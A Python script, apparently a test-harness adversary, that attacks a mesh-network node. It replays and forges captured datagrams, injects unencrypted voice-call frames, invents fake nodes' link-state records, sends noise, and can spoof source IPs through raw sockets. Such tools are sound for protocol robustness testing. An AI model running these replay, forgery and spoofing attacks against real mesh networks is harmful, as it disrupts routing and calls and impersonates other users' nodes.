#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""A stranger in a mesh, who has heard what others say to each other (LOG, of wire.py) and makes use of it:

  replay   every datagram to the victim once more, as it was
  forge    likewise, but with other numbers, sessions, acknowledgements, and boxes in which bits are turned
  plain    what may be sound of a call, in no box
  invent   datagrams of --count nodes that are nowhere, with neighbours and ways of their own
  noise    anything at all

From its own address, and with --spoof from that of whoever sent it before.  Prints how many it has sent."""
import argparse
import json
import os
import random
import socket
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import mesh_wire as mesh
import spray

AT_ONCE, PACE_S = 16, 0.002  # so many, and then a pause


class Mallory:
    def __init__(self, args):
        self.args, self.rng, self.sent = args, random.Random(args.seed), 0
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)

    def send(self, datagram, source):
        self.socket.sendto(datagram, self.args.to)
        if self.args.spoof:
            self.raw.sendto(spray.spoofed(source, self.args.to, datagram), (self.args.to[0], 0))
        self.sent += 1
        if self.sent % AT_ONCE == 0:
            time.sleep(PACE_S)

    def heard(self):
        """(source, datagram) of all that went to the victim."""
        with open(self.args.log) as log:
            for line in log:
                source, destination, *data = line.split()
                if destination == "%s:%u" % self.args.to and data:
                    yield address(source), bytes.fromhex(data[0])

    def replay(self):
        for source, datagram in list(self.heard())[-self.args.count:]:
            self.send(datagram, source)

    def forged(self, envelope, frame):
        """The frame, anew, with something wrong."""
        payload = bytearray(frame.payload)
        if frame.flags & mesh.BOXED == 0 and frame.type == mesh.DATA and payload:  # link state: all is acknowledged
            payload[-1] ^= 0xff
        elif payload:
            payload[self.rng.randrange(len(payload))] ^= 1 << self.rng.randrange(8)
        head = mesh.frame_head(frame.flags, encoded(frame.destination), encoded(frame.next_hop), frame.broadcast_id or b"",
                               qos=frame.qos, kind=frame.type)
        return mesh.frame(head, self.rng.randrange(256), bytes(payload), envelope.version)

    def forge(self):
        for source, datagram in list(self.heard())[-self.args.count:]:
            envelope, frames = mesh.read_datagram(datagram)
            again = mesh.envelope(encoded(envelope.sender), envelope.flags & mesh.UNICAST, self.rng.randrange(256),
                                  envelope.version)
            for frame in frames:
                if frame.source is None and not envelope.one_frame:
                    again += self.forged(envelope, frame)
            self.send(again, source)

    def plain(self):
        """Sessions are tried at random; slots go on from wherever."""
        source, datagram = list(self.heard())[-1]
        envelope, _ = mesh.read_datagram(datagram)
        us = mesh.address(bytes.fromhex(self.args.sid))
        for n in range(self.args.count):
            far, own = self.rng.choice(self.args.session), self.rng.choice(self.args.session)
            data = mesh.vomp(far, own, mesh.INCALL, mesh.INCALL, mesh.vomp_sound(2, n, n, bytes([0xaa] * 160)))
            head = mesh.frame_head(mesh.ONE_HOP | self.rng.choice((0, mesh.ACK_SOON)), us)
            self.send(mesh.envelope(encoded(envelope.sender), mesh.UNICAST, n) +
                      mesh.frame(head, n, mesh.ports(mesh.VOMP, mesh.VOMP) + data), source)

    def invent(self):
        us = mesh.address(bytes.fromhex(self.args.sid))
        for n in range(self.args.count):
            one, other = self.rng.randbytes(32), self.rng.randbytes(32)
            body = mesh.ports(mesh.LINK_STATE, mesh.LINK_STATE) + mesh.record(
                mesh.RECORD_INTERFACE | mesh.RECORD_UNICAST | mesh.RECORD_ACK, b"\xff", 1, us, 0, (n & 0xff, 0xffffffff))
            body += mesh.record(mesh.RECORD_DROP, mesh.address(other), 2, b"\xff", drop=0)
            explained = mesh.address(self.rng.randbytes(32)) * 3
            boxed = mesh.ONE_HOP | mesh.BOXED | mesh.ACK_SOON
            self.send(mesh.envelope(mesh.address(one), mesh.UNICAST, n) +
                      mesh.frame(mesh.frame_head(mesh.ONE_HOP, us), n, body) +
                      mesh.frame(mesh.frame_head(mesh.ONE_HOP, us, kind=mesh.EXPLAIN), n + 1, explained) +
                      mesh.frame(mesh.frame_head(boxed, us), n + 2, self.rng.randbytes(64)),
                      ("10.77.0.%u" % self.rng.randrange(100, 200), self.rng.randrange(1024, 65536)))

    def noise(self):
        for _ in range(self.args.count):
            begin = self.rng.choice((b"", b"\x00\x01", b"\x01\x01", b"\x01\x02", b"\x01\x01\x20"))
            self.send(begin + self.rng.randbytes(self.rng.randrange(0, 1400)), ("10.77.0.99", 4110))


def encoded(found):
    """An address as it was."""
    if found is None:
        return b""
    words = {word: code for code, word in mesh.WORDS.items()}
    return bytes([words[found.kind]]) if found.kind in words else mesh.address(found.bytes, len(found.bytes))


def address(text):
    host, port = text.rsplit(":", 1)
    return host, int(port)


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("what", choices=("replay", "forge", "plain", "invent", "noise"))
    parser.add_argument("--to", type=address, required=True, metavar="ADDR:PORT", help="the victim")
    parser.add_argument("--log", metavar="FILE", help="what was heard on the wire")
    parser.add_argument("--sid", help="the victim's")
    parser.add_argument("--session", type=int, action="append", help="that may be one of the call's")
    parser.add_argument("--count", type=int, default=1000)
    parser.add_argument("--spoof", action="store_true")
    parser.add_argument("--seed", type=int, default=1)
    mallory = Mallory(args := parser.parse_args())
    getattr(mallory, args.what)()
    print(json.dumps({"sent": mallory.sent}))


if __name__ == "__main__":
    main()
